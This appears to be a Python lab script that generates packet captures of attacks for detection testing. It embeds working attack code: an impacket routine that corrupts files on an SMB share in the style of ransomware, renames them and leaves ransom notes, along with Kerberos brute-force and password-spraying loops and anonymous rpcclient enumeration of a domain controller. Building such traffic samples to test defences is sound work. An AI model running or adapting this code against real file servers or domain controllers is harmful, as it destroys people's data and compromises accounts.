# SPDX-License-Identifier: Apache-2.0
"""Files made unreadable in pieces; passwords guessed at the controller alone; what nobody in particular may ask."""

import subprocess

from lab import password_of
from net import PYTHON, expect, impacket

FILES = 24  # more than an alert takes

# Through impacket's client, in a process of its own: every other block, as those in a hurry do, and another name.
IN_PLACE = """
import os, sys
from impacket.smbconnection import SMBConnection
host, user, password = sys.argv[1:]
c = SMBConnection(host, host)
c.login(user, password, "TEST")
t = c.connectTree("docs")
for folder in ("a", "b", "c"):
    for i in range(8):
        name = f"{folder}\\\\report{i}.txt"
        f = c.openFile(t, name)
        old = c.readFile(t, f, 0, 65536)
        for at in range(0, len(old), 2048):
            c.writeFile(t, f, os.urandom(1024), at)
        c.closeFile(t, f)
        c.rename("docs", name, name + ".x7q")
    f = c.createFile(t, f"{folder}\\\\HOW_TO.txt")
    c.writeFile(t, f, b"write to us\\n", 0)
    c.closeFile(t, f)
"""


def fill(net):
    """Three folders of texts."""
    docs = net.files.dir / "docs"
    for folder in ("a", "b", "c"):
        (docs / folder).mkdir(exist_ok=True)
        for f in (docs / folder).iterdir():
            f.unlink()
        for i in range(FILES // 3):
            (docs / folder / f"report{i}.txt").write_text(f"line {i}: nothing but words\n" * 160)
    subprocess.run(["chmod", "-R", "a+rwX", docs], check=True)
    return docs


def waves(net):
    server = net.files.host
    fill(net)
    with net.capture("wave_in_pieces", f"tcp port 445 and host {net.evil.address}"):
        expect(net.evil.run(PYTHON, "-c", IN_PLACE + "print('done')", server.address, "alice", password_of("alice")),
               "done")


def kerberos_guesses(net):
    """One account, then many, at the controller alone."""
    for name, accounts, tries in (("kerberos_brute_force", ("alice",), 12),
                                  ("kerberos_spray", [f"user{i}" for i in range(9)] + ["alice", "bob"], 1)):
        with net.capture(name, f"port 88 and host {net.evil.address}"):
            for account in accounts:
                for i in range(tries):
                    impacket(net.evil, "getTGT", f"TEST.LAB/{account}:guess{i}", "-dc-ip", net.dc.host.address)


def anonymous_enumeration(net):
    with net.capture("anonymous_enumeration", f"tcp port 445 and host {net.evil.address}"):
        for commands in ("enumdomusers", "querydominfo", "lsaquery", "netshareenum"):
            net.evil.run("rpcclient", "-U%", "-c", commands, net.dc.host.address, check=False)
